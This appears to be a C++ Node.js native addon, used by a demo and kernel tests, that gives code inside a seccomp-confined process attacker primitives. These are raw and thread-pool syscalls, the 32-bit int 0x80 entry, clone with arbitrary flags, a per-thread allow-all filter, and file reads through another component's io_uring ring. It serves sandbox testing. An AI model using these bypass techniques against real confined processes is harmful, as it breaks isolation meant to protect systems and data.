// What an attacker with native code in the process can do: make any system call, with any bits in
// any register, from any thread, through any entry the CPU has. The demo and the kernel tests use
// it to attack a locked-down process from the inside; it is no part of the package.
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/seccomp.h>
#include <napi.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <array>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <utility>
#include <vector>

namespace {

using Arguments = std::array<uint64_t, 6>;

// Numbers and bigints are passed as they are (negative ones as two's complement), buffers and
// strings as the address of their bytes.
uint64_t ReadArgument(const Napi::Value& value, std::vector<std::string>* strings) {
  if (value.IsBigInt()) {
    bool lossless = false;
    const uint64_t word = value.As<Napi::BigInt>().Uint64Value(&lossless);
    if (lossless) return word;
    return static_cast<uint64_t>(value.As<Napi::BigInt>().Int64Value(&lossless));
  }
  if (value.IsBuffer()) {
    return reinterpret_cast<uint64_t>(value.As<Napi::Buffer<uint8_t>>().Data());
  }
  if (value.IsString()) {
    strings->push_back(value.As<Napi::String>().Utf8Value());
    return reinterpret_cast<uint64_t>(strings->back().c_str());
  }
  return value.IsNumber() ? static_cast<uint64_t>(value.As<Napi::Number>().Int64Value()) : 0;
}

struct Call {
  long number = 0;
  Arguments arguments = {};
  std::vector<std::string> strings;

  explicit Call(const Napi::CallbackInfo& info) {
    strings.reserve(7);  // their addresses must stay
    number = static_cast<long>(ReadArgument(info[0], &strings));
    for (size_t i = 0; i < 6 && i + 1 < info.Length(); i++) {
      arguments[i] = ReadArgument(info[i + 1], &strings);
    }
  }
};

// The result, or -errno: what the kernel put in the register.
long Raw(long number, const Arguments& a) {
  const long result = syscall(number, a[0], a[1], a[2], a[3], a[4], a[5]);
  return result == -1 ? -errno : result;
}

// syscall(number, …arguments) -> result or -errno
Napi::Value Syscall(const Napi::CallbackInfo& info) {
  const Call call(info);
  return Napi::Number::New(info.Env(), static_cast<double>(Raw(call.number, call.arguments)));
}

class PoolCall : public Napi::AsyncWorker {
 public:
  PoolCall(Napi::Env env, long number, Arguments arguments)
      : AsyncWorker(env), deferred_(env), number_(number), arguments_(arguments) {}
  Napi::Promise Promise() const { return deferred_.Promise(); }
  void Execute() override { result_ = Raw(number_, arguments_); }
  void OnOK() override {
    deferred_.Resolve(Napi::Number::New(Env(), static_cast<double>(result_)));
  }

 private:
  Napi::Promise::Deferred deferred_;
  long number_;
  Arguments arguments_;
  long result_ = 0;
};

// syscallOnPool(number, …numbers): the same from a thread of libuv's pool, as a promise.
Napi::Value SyscallOnPool(const Napi::CallbackInfo& info) {
  const Call call(info);
  auto* worker = new PoolCall(info.Env(), call.number, call.arguments);
  const Napi::Promise promise = worker->Promise();
  worker->Queue();
  return promise;
}

// int80(number, a, b, c): the 32-bit entry, whose numbers mean other calls (5 is open, 11 execve).
Napi::Value Int80(const Napi::CallbackInfo& info) {
#if defined(__x86_64__)
  long result = info[0].ToNumber().Int64Value();
  const long a = info[1].ToNumber().Int64Value();
  const long b = info[2].ToNumber().Int64Value();
  const long c = info[3].ToNumber().Int64Value();
  __asm__ volatile("int $0x80"
                   : "+a"(result)
                   : "b"(a), "c"(b), "d"(c)
                   : "memory", "r8", "r9", "r10", "r11");
  return Napi::Number::New(info.Env(), static_cast<double>(result));
#else
  return Napi::Number::New(info.Env(), -ENOSYS);
#endif
}

// fork(flags): a new process by clone(2), with these CLONE_* flags. Returns its id (it exits at
// once) or -errno.
Napi::Value Fork(const Napi::CallbackInfo& info) {
  std::vector<std::string> strings;
  const uint64_t flags = info.Length() > 0 ? ReadArgument(info[0], &strings) : 0;
  const long pid = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) _exit(0);
  const long result = pid == -1 ? -errno : pid;
  if (pid > 0) waitpid(static_cast<pid_t>(pid), nullptr, 0);
  return Napi::Number::New(info.Env(), static_cast<double>(result));
}

// diverge(): a filter on the calling thread alone, which allows everything. The rest of the process
// can then not be brought under one filter with it.
Napi::Value Diverge(const Napi::CallbackInfo& info) {
  sock_filter allow_all[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
  sock_fprog program = {1, allow_all};
  prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
  const long result = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program);
  return Napi::Number::New(info.Env(), result == 0 ? 0 : -errno);
}

std::vector<int> RingDescriptors() {
  std::vector<int> rings;
  for (int fd = 0; fd < 1024; fd++) {
    char path[64], target[64] = {};
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    if (readlink(path, target, sizeof(target) - 1) > 0 &&
        strcmp(target, "anon_inode:[io_uring]") == 0) {
      rings.push_back(fd);
    }
  }
  return rings;
}

// Submits one IORING_OP_OPENAT on a ring somebody else made, and waits for it. linux/io_uring.h;
// the offsets inside the ring are the kernel's struct io_rings (io_uring/io_uring.c).
long OpenThroughRing(int ring, const char* path) {
  auto* rings = static_cast<char*>(
      mmap(nullptr, 16384, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING));
  if (rings == MAP_FAILED) return -errno;
  const auto word = [&](size_t offset) { return reinterpret_cast<uint32_t*>(rings + offset); };
  uint32_t* const sq_tail = word(4);
  uint32_t* const cq_head = word(8);
  uint32_t* const cq_tail = word(12);
  const uint32_t sq_mask = *word(16);
  const uint32_t cq_mask = *word(20);
  const uint32_t sq_entries = *word(24);
  auto* entries =
      static_cast<io_uring_sqe*>(mmap(nullptr, sq_entries * sizeof(io_uring_sqe),
                                      PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES));
  if (entries == MAP_FAILED) return -errno;

  io_uring_sqe request = {};
  request.opcode = IORING_OP_OPENAT;
  request.fd = AT_FDCWD;
  request.addr = reinterpret_cast<uint64_t>(path);
  request.open_flags = O_RDONLY;
  entries[*sq_tail & sq_mask] = request;
  __atomic_store_n(sq_tail, *sq_tail + 1, __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0) < 0) {
    return -errno;
  }
  const uint32_t head = *cq_head;
  if (head == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE)) return -EAGAIN;
  const auto* completions = reinterpret_cast<io_uring_cqe*>(rings + 64);
  const long result = completions[head & cq_mask].res;
  __atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
  return result;
}

// readThroughRing(path) -> the first bytes of the file as a string, null if the process has no
// ring, or -errno.
Napi::Value ReadThroughRing(const Napi::CallbackInfo& info) {
  const std::string path = info[0].ToString().Utf8Value();
  const std::vector<int> rings = RingDescriptors();
  if (rings.empty()) return info.Env().Null();
  long result = 0;
  for (const int ring : rings) {
    result = OpenThroughRing(ring, path.c_str());
    if (result < 0) continue;
    char text[256] = {};
    const ssize_t length = read(static_cast<int>(result), text, sizeof(text) - 1);
    if (length > 0) return Napi::String::New(info.Env(), text, static_cast<size_t>(length));
  }
  return Napi::Number::New(info.Env(), static_cast<double>(result));
}

Napi::Object Init(Napi::Env env, Napi::Object exports) {
  const std::pair<const char*, Napi::Value (*)(const Napi::CallbackInfo&)> functions[] = {
      {"syscall", Syscall}, {"syscallOnPool", SyscallOnPool},     {"int80", Int80}, {"fork", Fork},
      {"diverge", Diverge}, {"readThroughRing", ReadThroughRing},
  };
  for (const auto& [name, function] : functions) {
    exports.Set(name, Napi::Function::New(env, function, name));
  }
  return exports;
}

}  // namespace

NODE_API_MODULE(NODE_GYP_MODULE_NAME, Init)
